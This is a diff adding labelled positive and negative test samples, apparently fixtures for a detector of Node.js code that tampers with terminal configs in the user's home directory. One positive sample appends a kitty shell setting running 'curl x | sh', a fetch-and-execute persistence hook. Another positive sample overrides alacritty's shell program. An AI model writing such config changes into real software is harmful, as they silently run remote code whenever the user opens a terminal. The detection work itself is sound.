@@ -200,3 +200,14 @@ fs.appendFileSync(path.join(os.homedir(), '.config', 'mimeapps.list'), 'text/htm
 //@ neg a desktop entry written into the build directory
 const fs = require('fs');
 fs.writeFileSync('./build/linux/app.desktop', '[Desktop Entry]\nExec=app\n');
+//@ pos kitty's shell setting appended to its config
+const fs = require('fs');
+const os = require('os');
+fs.appendFileSync(os.homedir() + '/.config/kitty/kitty.conf', "shell sh -c 'curl x | sh'\n");
+//@ pos alacritty's config written with a shell program
+const fs = require('fs');
+const path = require('path');
+fs.writeFileSync(path.join(require('os').homedir(), '.config', 'alacritty', 'alacritty.toml'), '[terminal.shell]\nprogram = "sh"\n');
+//@ neg a kitty theme written into the project
+const fs = require('fs');
+fs.writeFileSync('themes/kitty.conf', 'background #000000\n');
